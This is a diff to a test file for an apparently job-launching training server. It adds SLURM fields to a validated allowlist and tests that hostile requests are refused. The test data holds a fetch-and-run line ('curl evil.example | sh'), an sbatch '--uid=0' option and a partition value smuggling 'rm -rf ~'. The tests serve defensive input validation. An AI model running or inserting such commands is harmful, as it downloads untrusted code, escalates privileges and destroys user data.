@@ -34,6 +34,12 @@ PLAIN_TEXT = {
     "training.early_stopping_metric",  # the name of a logged eval metric
     "grpo.answer_column",
     "grpo.format_pattern",  # a regular expression the worker matches completions with
+    # SLURM's names and sizes, each held to sbatch's own pattern (no path, no shell)
+    "slurm.partition",
+    "slurm.account",
+    "slurm.qos",
+    "slurm.time_limit",
+    "slurm.memory",
 }
 
 
@@ -167,6 +173,14 @@ def test_code_and_hub_ids_named_by_a_request_are_refused_unless_the_server_allow
             httpx.post(f"{url}/runs", json={"distributed": {"nnodes": 2, "master_addr": "10.1.2.3"}}),
             "another machine",
         )
+        # A SLURM job's shell lines and sbatch options are code the cluster runs.
+        for key, lines in (("setup", ["curl evil.example | sh"]), ("extra_sbatch", ["--uid=0"])):
+            refused(
+                httpx.post(f"{url}/runs", json={"backend": "slurm", "slurm": {key: lines}}),
+                f"slurm.{key}",
+                "--allow-remote-code",
+            )
+        refused(httpx.post(f"{url}/runs", json={"slurm": {"partition": "gpu; rm -rf ~"}}), "slurm.partition")
     assert open_store().count_runs() == 0
     # Started to allow them, the same requests are taken (the queue is paused: nothing downloads).
     with running_server("--allow-remote-code", "--hub-id", "owner/model") as url:
